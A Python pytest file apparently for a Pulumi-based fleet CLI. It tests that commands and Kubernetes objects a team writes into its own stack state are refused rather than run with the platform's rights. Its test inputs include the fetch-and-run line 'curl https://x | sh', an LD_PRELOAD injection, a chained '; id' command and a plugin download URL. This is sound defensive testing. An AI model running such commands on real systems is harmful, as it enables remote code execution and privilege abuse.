"""What a team may have written into its own stack's state is not run by the platform's commands."""

import re

import pytest
import yaml

from kai_fleet import probes
from kai_fleet.fleet.deployed_state import STACK
from kai_fleet_cli.errors import UserError
from kai_fleet_cli.recovery import state
from kai_fleet_cli.recovery.state import ExportedState
from kai_fleet_cli.teams import team_state
from tests.unit.team_project import Project
from tests.unit.vcluster_secrets import config

TEAM = "urn:pulumi:{}::kai-fleet::kai-fleet:index:Team::ml"


LAB = TEAM.format("lab")


def resource(urn, kind, parent=LAB, **more):
    return {"urn": urn, "type": kind, "parent": parent, **more}


INSIDE = LAB.replace("Team::", "Team$kai-fleet:index:VirtualCluster::")
PROVIDER = INSIDE.replace("VirtualCluster::", "VirtualCluster$pulumi:providers:kubernetes::")
KAI = LAB.replace("Team::ml", "Team$kai-fleet:index:KaiScheduler::ml-kai")
QUEUES = LAB.replace("Team::ml", "Team$kai-fleet:index:Queues::ml-queues")
WAY_IN = {"kubeconfig": yaml.safe_dump(config())}
TREE = {"tree": "ml-queues", "queues": {"default": "{}"}, **WAY_IN}
VIRTUAL = [
    resource(LAB, "kai-fleet:index:Team", ""),
    resource(INSIDE, "kai-fleet:index:VirtualCluster"),
    resource(PROVIDER, "pulumi:providers:kubernetes", INSIDE, inputs=WAY_IN),
    resource(KAI, "kai-fleet:index:KaiScheduler"),
    *(
        resource(
            KAI.replace("::ml-kai", f"${kind}::{name}"), kind, KAI, provider=f"{PROVIDER}::an-id"
        )
        for kind, name in ((state.RELEASE, "a"), ("kubernetes:core/v1:Namespace", "b"))
    ),
    resource(QUEUES, "kai-fleet:index:Queues", deletedWith=PROVIDER, inputs=TREE, outputs=TREE),
]
HOST_PROVIDER = "urn:pulumi:lab::kai-fleet::pulumi:providers:kubernetes::host"
HOST = {"urn": HOST_PROVIDER, "type": "pulumi:providers:kubernetes", "inputs": {}}


HOST_ID = f"{HOST_PROVIDER}::id"
OWN = {"delete": probes.command("pods"), "environment": {"PODS_NAMESPACE": "team-ml"}}


def beside(kind, inputs, outputs=None, **more):
    """A part of the vCluster that its own stack's state has, and its providers."""
    urn = INSIDE.replace("VirtualCluster::ml", f"VirtualCluster${kind}::odd")
    both = {"inputs": inputs, "outputs": inputs if outputs is None else outputs}
    return [resource(urn, kind, INSIDE, **both, **{"provider": HOST_ID, **more}), HOST]


def refuses(says, resources):
    with pytest.raises(UserError, match=f"odd in the state of stack lab .*{re.escape(says)}"):
        team_state.check_own([*VIRTUAL, *resources], "lab", "ml")


def of_probe(*words, **variables):
    return {"delete": probes.command(*words), "environment": variables}


@pytest.mark.parametrize(
    ("kind", "inputs", "says"),
    [
        ("command:local:Command", {"delete": "curl https://x | sh"}, "has another delete"),
        ("command:local:Command", {"create": f"{probes.command('pods')}; id"}, "another create"),
        ("command:local:Command", OWN | {"interpreter": ["/bin/x"]}, "has interpreter"),
        ("command:local:Command", {"environment": {"LD_PRELOAD": "/x"}}, "sets LD_PRELOAD"),
        ("command:local:Command", {"environment": {"KAI_FLEET_X": "y"}}, "sets KAI_FLEET_X"),
        ("command:local:Command", of_probe("pods", PODS_NAMESPACE="x"), "another PODS_NAMESPACE"),
        ("command:local:Command", of_probe("record", RECORD_RELEASE="x/y"), "another RECORD_REL"),
        ("command:local:Command", of_probe("vacant"), "has another delete"),
        ("command:local:Command", of_probe("kind", "delete"), "has another delete"),
        (
            "command:local:Command",
            of_probe("kai", "clean-up", PROBE_CONTEXT="x"),
            "another cluster",
        ),
        ("command:local:Command", of_probe("shards", "remove"), "is about another cluster"),
        (
            "command:local:Command",
            of_probe("shards", "remove", PROBE_SECRET="team-x/vc-x"),
            "has another PROBE_SECRET than team ml's",
        ),
        ("command:remote:Command", {}, "is a command:remote:Command"),
        ("pulumi:providers:other", {}, "is a pulumi:providers:other"),
        (
            "pulumi:providers:kubernetes",
            {"__internal": {"pluginDownloadURL": "https://x"}},
            "says where its plugin comes from",
        ),
        ("pulumi:providers:kubernetes", {"renderYamlToDirectory": "/"}, "has renderYaml"),
        ("pulumi:providers:kubernetes", {"context": "host", **WAY_IN}, "leads to another cluster"),
        ("pulumi:providers:kubernetes", {}, "has a kubeconfig that holds no kubeconfig"),
        ("kai-fleet:index:Queues", TREE | {"tree": "other-queues"}, "is the tree of others"),
        ("kai-fleet:index:Queues", TREE | {"context": "host"}, "has queues of others"),
    ],
)
def test_what_the_command_would_run_is_refused(kind, inputs, says):
    """A team's own stack writes its state; the engine deletes by it what is not declared."""
    refuses(says, beside(kind, inputs))


def test_a_command_is_run_by_its_outputs_and_its_urn():
    evil = {"delete": "curl https://x | sh"}
    refuses("has another delete", beside("command:local:Command", OWN, evil))
    other = beside("command:local:Command", evil)
    other[0] |= {"type": "kubernetes:core/v1:Secret"}
    refuses("has another type than its URN", other)
    # The second one has the parent that a look at the last of a name would go by.
    first, host = beside("command:local:Command", evil)
    refuses("another delete", [first, first | {"parent": "", "delete": True}, host])


def of_api(name, namespace="team-ml"):
    return {"metadata": {"name": name, "namespace": namespace}}


@pytest.mark.parametrize(
    ("kind", "id_", "inputs", "outputs"),
    [
        ("core/v1:Namespace", "team-other", {"metadata": {"name": "team-other"}}, None),
        ("core/v1:ConfigMap", "kube-system/x", of_api("x", "kube-system"), None),
        ("core/v1:ConfigMap", "kube-system/ml-oidc-1", of_api("ml-oidc-1"), None),
        ("core/v1:ConfigMap", "ml-oidc-1", of_api("ml-oidc-1"), None),
        ("core/v1:ConfigMap", "team-ml/ml-oidc-1", {"metadata": "x"}, None),
        ("core/v1:ConfigMap", "team-ml/ml-oidc-1", of_api("ml-oidc-1"), of_api("ml-oidc-1", "x")),
        ("core/v1:ResourceQuota", "team-ml/gpus", of_api("gpus"), None),
        ("core/v1:Secret", "team-ml/kai-fleet-registries", of_api("kai-fleet-registries"), None),
        (
            "helm.sh/v3:Release",
            "kube-system/cni",
            {"namespace": "kube-system", "name": "cni"},
            None,
        ),
        ("helm.sh/v3:Release", "team-ml/own", {"namespace": "team-ml", "name": "own"}, None),
        (
            "helm.sh/v3:Release",
            "team-ml/ml",
            {"namespace": "team-ml", "name": "ml"},
            {"namespace": "kube-system", "name": "cni"},
        ),
    ],
)
def test_no_object_of_the_host_is_run_but_the_teams(kind, id_, inputs, outputs):
    """The platform's update deletes what it does not declare, with the platform's rights."""
    made = beside(f"kubernetes:{kind}", inputs, outputs, id=id_)
    refuses(f"is {id_} of the host, which is not team ml's", made)


@pytest.mark.parametrize(
    ("kind", "name"),
    [("core/v1:ConfigMap", "ml-oidc-0a1b2c3d"), ("core/v1:Secret", "kai-fleet-team-registries")],
)
def test_what_the_team_has_on_the_host_is_run(kind, name):
    made = beside(f"kubernetes:{kind}", of_api(name), id=f"team-ml/{name}")
    team_state.check_own([*VIRTUAL, *made], "lab", "ml")


def test_what_this_program_declares_is_run():
    own = {"create": 'printf %s "$CLUSTER"', "environment": {"CLUSTER": "x"}, "triggers": ["x"]}
    inside = {"PROBE_SECRET": "team-ml/vc-ml", "KAI_VERSION": "v0.16.8"}
    wait = {"update": probes.command("kai", "wait"), "logging": "stderr", "environment": inside}
    for inputs in (OWN, own, wait):
        made = beside("command:local:Command", inputs)
        team_state.check_own([*VIRTUAL, *made], "lab", "ml")


@pytest.mark.parametrize(
    "command",
    [("remove", "vision"), ("switch", "vision", "v0.16.8")],
)
def test_no_command_of_the_platform_runs_what_a_team_wrote_into_its_own_stack(
    tmp_path, monkeypatch, command
):
    project = Project.of(tmp_path, monkeypatch, own=True)
    before = project.files()
    stack = resource("urn:pulumi:lab-vision::kai-fleet::pulumi:pulumi:Stack::x", STACK, "")
    well = {"environment": {"PODS_NAMESPACE": "team-vision"}}
    odd = "urn:pulumi:lab-vision::kai-fleet::command:local:Command::odd"
    for outputs, says in ((well, ""), ({"delete": "curl https://x | sh"}, "has another delete")):
        made = resource(odd, "command:local:Command", "", inputs=well, outputs=outputs)
        project.engine.deployed["lab-vision"] = ExportedState({"resources": [stack, made]})
        ran = project.run("team", *command, "-s", "lab", "--yes")
        assert says in ran.refusal and bool(says) is bool(ran.refusal), ran.refusal
        if says:
            assert "this command would run it, with your rights" in ran.refusal
            assert (project.files(), project.engine.asked) == (before, [])
        for name, content in before.items():
            (tmp_path / name).write_bytes(content)
        project.engine.asked.clear()
